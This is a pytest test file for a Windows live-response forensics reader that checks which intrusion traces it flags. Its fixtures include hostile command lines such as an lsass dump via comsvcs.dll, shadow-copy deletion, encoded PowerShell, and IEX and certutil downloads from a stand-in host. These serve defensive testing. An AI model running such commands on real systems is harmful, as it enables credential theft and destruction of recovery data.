"""A Windows host's live response is read: forms of both PowerShells, a quiet server, an intruder's.

Forms: ``ConvertTo-Json`` of Windows PowerShell 5.1 writes a DateTime as ``\\/Date(ms)\\/`` and an enumeration as its number
(learn.microsoft.com, ConvertTo-Json); the numbers of a connection's state are those of MSFT_NetTCPConnection, of a session's
kind those of Win32_LogonSession. The hosts are invented.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from forensics.memory.live import windows
from forensics.memory.live.reader import LiveOrder, LiveReading, examine
from forensics.memory.live.windows_rules import JUDGED, judged
from tests.unit.memory.live.test_live_reader import Given
from tests.unit.memory.live_archives import archive, line, tar

BOOT = datetime(2026, 11, 20, 6, 0, tzinfo=UTC)
PEER = "198.51.100.23"
SYSTEM32 = "C:\\Windows\\System32\\"


def date(seconds: float) -> str:
    return f"/Date({int((BOOT + timedelta(seconds=seconds)).timestamp() * 1000)})/"


def jsonl(*found: dict[str, Any]) -> bytes:
    """As the document writes it; Windows PowerShell escapes the slash."""
    return "".join(
        json.dumps(row, separators=(",", ":")).replace("/Date", "\\/Date").replace(")/", ")\\/") + "\r\n"
        for row in found
    ).encode()


def process(pid: int, ppid: int, name: str, *, path: str = "", command: str = "", at: float = 10) -> dict[str, Any]:
    return {
        "ProcessId": pid, "ParentProcessId": ppid, "Name": name, "ExecutablePath": path or None, "CommandLine": command or None,
        "CreationDate": date(at), "SessionId": 0,
    }  # fmt: skip


def tcp(pid: int, peer: str, port: int, *, state: int = 5, local: int = 49800) -> dict[str, Any]:
    return {
        "LocalAddress": "10.0.0.9", "LocalPort": local, "RemoteAddress": peer, "RemotePort": port, "State": state, "OwningProcess": pid,
        "CreationTime": date(60),
    }  # fmt: skip


def quiet() -> dict[str, list[dict[str, Any]]]:
    """What a server with IIS and the agents of AWS runs; the last shell is the document itself."""
    agent = "C:\\Program Files\\Amazon\\SSM\\"
    return {
        "00-clock": [{"boot": date(0), "utc": "2026-11-21T02:05:00.1234567Z"}],
        "10-tcp": [
            tcp(0, "0.0.0.0", 0, state=2, local=80), tcp(2100, "203.0.113.80", 443), tcp(5002, "203.0.113.99", 443),
            tcp(1800, "203.0.113.7", 443), tcp(1500, "203.0.113.5", 51000, local=443),
        ],
        "20-processes": [
            process(4, 0, "System", at=0), process(400, 4, "smss.exe", command="\\SystemRoot\\System32\\smss.exe", path="\\SystemRoot\\System32\\smss.exe", at=1),
            process(520, 400, "wininit.exe", path=SYSTEM32 + "wininit.exe", at=2), process(600, 520, "services.exe", path=SYSTEM32 + "services.exe", at=3),
            process(610, 520, "lsass.exe", path=SYSTEM32 + "lsass.exe", command=SYSTEM32 + "lsass.exe", at=3),
            process(700, 600, "svchost.exe", path=SYSTEM32 + "svchost.exe", command=SYSTEM32 + "svchost.exe -k netsvcs -p -s Schedule", at=4),
            process(1500, 700, "w3wp.exe", path=SYSTEM32 + "inetsrv\\w3wp.exe", command="w3wp.exe -ap DefaultAppPool", at=30),
            process(1800, 600, "MsMpEng.exe", path="C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.1-0\\MsMpEng.exe", at=20),
            process(2000, 600, "amazon-ssm-agent.exe", path=agent + "amazon-ssm-agent.exe", at=20),
            process(2100, 2000, "ssm-agent-worker.exe", path=agent + "ssm-agent-worker.exe", at=21),
            process(5001, 2100, "ssm-document-worker.exe", path=agent + "ssm-document-worker.exe", at=70),
            process(
                5002, 5001, "powershell.exe", path=SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe", at=71,
                command="powershell -ExecutionPolicy unrestricted C:\\ProgramData\\Amazon\\SSM\\InstanceData\\i-0\\document\\orchestration\\x\\_script.ps1",
            ),
        ],
        "23-sessions": [
            {"LogonId": "999", "LogonType": 5, "StartTime": date(3), "AuthenticationPackage": "Negotiate"},
            {"LogonId": "88231", "LogonType": 10, "StartTime": date(3600), "AuthenticationPackage": "Negotiate"},
        ],
        "40-drivers": [{"Name": "ENA", "State": "Running", "StartMode": "Boot", "PathName": SYSTEM32 + "drivers\\ena.sys"}],
        "41-services": [
            {"Name": "W3SVC", "State": "Running", "StartMode": "Auto", "StartName": "LocalSystem", "PathName": SYSTEM32 + "svchost.exe -k iissvcs", "ProcessId": 700},
            {"Name": "AmazonSSMAgent", "State": "Running", "StartMode": "Auto", "StartName": "LocalSystem", "PathName": f'"{agent}amazon-ssm-agent.exe"', "ProcessId": 2000},
        ],
        "46-defender": [{"AMServiceEnabled": True, "RealTimeProtectionEnabled": True, "IsTamperProtected": True}],
        "46-defender-exclusions": [{"ExclusionPath": None, "ExclusionProcess": None, "ExclusionExtension": None, "DisableRealtimeMonitoring": False}],
        "50-tasks": [
            {"path": "\\Microsoft\\Windows\\Defrag\\", "name": "ScheduledDefrag", "state": "Ready", "runs": ["%windir%\\system32\\defrag.exe -c -h -o"]},
            {"path": "\\", "name": "Amazon Ec2 Launch - Instance Initialization", "state": "Disabled", "runs": ["powershell.exe -ExecutionPolicy Unrestricted -File C:\\ProgramData\\Amazon\\EC2-Windows\\Launch\\Scripts\\InitializeInstance.ps1"]},
        ],
        "51-wmi-consumers": [{"Name": "SCM Event Log Consumer", "CommandLineTemplate": None, "ExecutablePath": None, "ScriptText": None}],
    }  # fmt: skip


def reading(members: dict[str, list[dict[str, Any]] | bytes], **order: Any) -> LiveReading:
    made = {name: body if isinstance(body, bytes) else jsonl(*body) for name, body in members.items()}
    return examine(LiveOrder(windows=True, **order).model_dump_json().encode(), Given(archive(made)))


def test_a_quiet_server_is_quiet() -> None:
    found = reading({**quiet(), "25-pipes": b"\\\\.\\pipe\\lsass\n\\\\.\\pipe\\srvsvc\n", "53-run-keys": (
        b"HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run SecurityHealth = %windir%\\system32\\SecurityHealthSystray.exe\n"
        b"HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon Shell = explorer.exe\n"
        b"HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon Userinit = C:\\Windows\\system32\\userinit.exe,\n"
    )})  # fmt: skip
    assert [(f.severity.value, f.title) for f in found.findings] == [
        (
            "info",
            "Connection of a script of Systems Manager, as this one is: powershell.exe (5002) with 203.0.113.99 port 443",
        )
    ]
    assert found.gaps == ()
    assert found.counts == {"processes": 12, "sockets": 5, "sessions": 2, "services": 2, "tasks": 2, "packages": 0}
    assert [p.pid for p in found.processes] == [4, 400, 520, 600, 610, 700, 1500, 1800, 2000, 2100, 5001, 5002]
    assert [e.what for e in found.timeline if e.source != "20-processes"] == [
        "System booted",
        "Session 88231 began (remote desktop, Negotiate)",
    ]
    assert found.timeline[0].time == BOOT


INTRUDER: list[tuple[str, dict[str, Any], str, str, str]] = [
    ("20-processes", process(6000, 600, "svchost.exe", path="C:\\Users\\Public\\svchost.exe", at=90), "has the name of a part of Windows", "critical", "T1036.005"),
    ("20-processes", process(6000, 600, "lsass.exe", path=SYSTEM32 + "lsass.exe", at=90), "There is more than one lsass.exe", "high", "T1036.005"),
    ("20-processes", process(6000, 1500, "svchost.exe", path=SYSTEM32 + "svchost.exe", at=90), "was started by w3wp.exe", "high", "T1036.009"),
    ("20-processes", process(6000, 1500, "cmd.exe", path=SYSTEM32 + "cmd.exe", command="cmd /c whoami /priv", at=90), "was started by w3wp.exe", "critical", "T1505.003"),
    ("20-processes", process(6000, 700, "u.exe", path="C:\\Windows\\Temp\\a\\u.exe", at=90), "a place where any user may write", "high", "T1036.005"),
    ("20-processes", process(6000, 1, "rundll32.exe", path=SYSTEM32 + "rundll32.exe", command="rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 610 C:\\x.bin full"), "Credentials taken from memory", "critical", "T1003.001"),
    ("20-processes", process(6000, 1, "vssadmin.exe", path=SYSTEM32 + "vssadmin.exe", command="vssadmin delete shadows /all /quiet"), "shadow copies deleted", "critical", "T1490"),
    ("20-processes", process(6000, 1, "powershell.exe", command="powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUA"), "Hidden or encoded PowerShell", "high", "T1059.001"),
    ("20-processes", process(6000, 1, "powershell.exe", command="powershell IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.1/a')"), "Script fetched and run", "critical", "T1059.001"),
    ("20-processes", process(6000, 1, "certutil.exe", command="certutil -urlcache -split -f http://203.0.113.1/a a.exe"), "Download by a program of Windows", "high", "T1105"),
    ("10-tcp", tcp(610, PEER, 443), f"Connection with {PEER}, which the finding names", "high", "T1071"),
    ("41-services", {"Name": "upd", "State": "Running", "StartMode": "Auto", "StartName": "LocalSystem", "PathName": "C:\\ProgramData\\upd.exe", "ProcessId": 7}, "Service upd starts a program from an odd place", "high", "T1543.003"),
    ("41-services", {"Name": "x1", "State": "Stopped", "StartMode": "Manual", "StartName": "LocalSystem", "PathName": "%COMSPEC% /b /c start cmd.exe /c echo", "ProcessId": 0}, "Service x1 starts a shell", "high", "T1543.003"),
    ("50-tasks", {"path": "\\", "name": "sync", "state": "Ready", "runs": ["C:\\Users\\Public\\Music\\s.exe "]}, "Scheduled task \\sync runs a program from an odd place", "high", "T1053.005"),
    ("51-wmi-consumers", {"Name": "upd", "CommandLineTemplate": "cmd /c C:\\x.bat"}, "A WMI event consumer runs something: upd", "high", "T1546.003"),
    ("46-defender", {"AMServiceEnabled": True, "RealTimeProtectionEnabled": False}, "real-time protection is off", "medium", "T1685"),
    ("46-defender-exclusions", {"ExclusionPath": ["C:\\"], "ExclusionProcess": None}, "Defender does not look everywhere", "high", "T1685"),
    ("13-dns", {"Entry": "c2.example.net", "Data": PEER, "TimeToLive": 30}, "The host looked up c2.example.net", "high", "T1071"),
    ("52-bits", {"DisplayName": "j", "OwnerAccount": "NT AUTHORITY\\SYSTEM", "CreationTime": date(5), "FileList": ["http://203.0.113.1/a"]}, "BITS job of", "medium", "T1197"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("member", "row", "title", "severity", "technique"),
    INTRUDER,
    ids=[f"{row[0]}-{number}" for number, row in enumerate(INTRUDER)],
)
def test_what_an_intruder_leaves_is_named(
    member: str, row: dict[str, Any], title: str, severity: str, technique: str
) -> None:
    members: dict[str, Any] = quiet()
    members[member] = [*members.get(member, []), row]
    found = [f for f in reading(members, peers=(PEER,)).findings if f.severity.value != "info"]
    assert [(f.severity.value, f.technique, f.source) for f in found if title in f.title] == [
        (severity, technique, member)
    ], found


def test_a_shell_on_the_network_is_no_script_of_the_agent() -> None:
    """The agent's name in another folder, or another port, excuses nothing."""
    members: dict[str, Any] = quiet()
    members["20-processes"] = [
        *members["20-processes"], process(6000, 1, "ssm-document-worker.exe", path="C:\\Users\\x\\ssm-document-worker.exe", at=80),
        process(6001, 6000, "powershell.exe", at=81),
    ]  # fmt: skip
    members["10-tcp"] += [tcp(6001, "203.0.113.99", 443), tcp(5002, "203.0.113.99", 4444)]
    grave = [f.data["pid"] for f in reading(members).findings if f.severity.value == "critical"]
    assert grave == [6001, 5002]


def test_a_commands_beginning_is_judged_whatever_the_host_puts_into_it() -> None:
    """4,000 characters cost 0.4 s of a budget of 180 s for some thousand commands; spaces hide nothing."""
    assert judged("vssadmin" + " " * 3_000 + "delete  shadows /all") is not None
    assert judged("x" * JUDGED + " vssadmin delete shadows") is None


def test_texts_of_older_systems_are_read() -> None:
    """``netstat -ano`` where no cmdlet is: Windows Server 2008 R2."""
    body = b"\r\nActive Connections\r\n\r\n  TCP    0.0.0.0:80      0.0.0.0:0      LISTENING       4\r\n  TCP    [fe80::1%4]:50000  [2001:db8::5]:443   ESTABLISHED     6001\r\n"
    host = windows.read({"10-tcp": body})
    assert [(c.ends, c.state, c.pid, c.foreign) for c in host.connections] == [
        ("tcp 0.0.0.0:80 to 0.0.0.0:0", "LISTEN", 4, False), ("tcp [fe80::1]:50000 to [2001:db8::5]:443", "ESTABLISHED", 6001, True),
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("said", "wanted"),
    [
        ("/Date(1763690700000)/", datetime(2025, 11, 21, 2, 5, tzinfo=UTC)), ("/Date(1763690700000+0100)/", datetime(2025, 11, 21, 2, 5, tzinfo=UTC)),
        ({"value": "/Date(1763690700000)/", "DisplayHint": 2}, datetime(2025, 11, 21, 2, 5, tzinfo=UTC)),
        ("2025-11-21T03:05:00.0000000+01:00", datetime(2025, 11, 21, 2, 5, tzinfo=UTC)), ("2025-11-21T02:05:00", None),
        ("/Date(-62135596800000)/", None), ("/Date(99999999999999)/", None), ("yesterday", None), (None, None), (7, None),
    ],
)  # fmt: skip
def test_times_of_both_powershells(said: object, wanted: datetime | None) -> None:
    assert windows.moment(said) == wanted


def test_lies_cost_their_own_lines_only() -> None:
    deep = b'{"Name":' * 5_000 + b"1" + b"}" * 5_000 + b"\n"
    hostile = jsonl(
        {"ProcessId": True, "Name": "x"}, {"ProcessId": -4}, {"ProcessId": 2**40}, {"ProcessId": 9, "Name": ["a", {"b": 1}], "CommandLine": {"x": 1}},
        {"ProcessId": 10, "ParentProcessId": 10, "Name": "\u202egpj.exe", "ExecutablePath": "C:\\Windows\\Temp\\\ud800.exe", "CreationDate": date(1)},
    )  # fmt: skip
    found = reading(
        {
            "20-processes": deep + b"[1]\nnull\n\xff\xfe{\n" + hostile,
            "10-tcp": b"[" * 100_000,
            "23-sessions": [{"LogonType": []}],
        }
    )
    assert [p.pid for p in found.processes] == [9, 10]
    assert any(f.data.get("pid") == 10 for f in found.findings)


def test_what_was_not_taken_is_a_gap_and_a_cut_list_is_none() -> None:
    body = jsonl(process(4, 0, "System"))
    index = line("20-processes", body, state="cut: ended after 20 s")
    found = examine(
        LiveOrder(windows=True).model_dump_json().encode(),
        Given(tar({"20-processes": body, "index.tsv": index.encode()})),
    )
    assert found.processes == ()
    assert sorted(gap.what for gap in found.gaps) == ["connections", "processes", "sessions"]
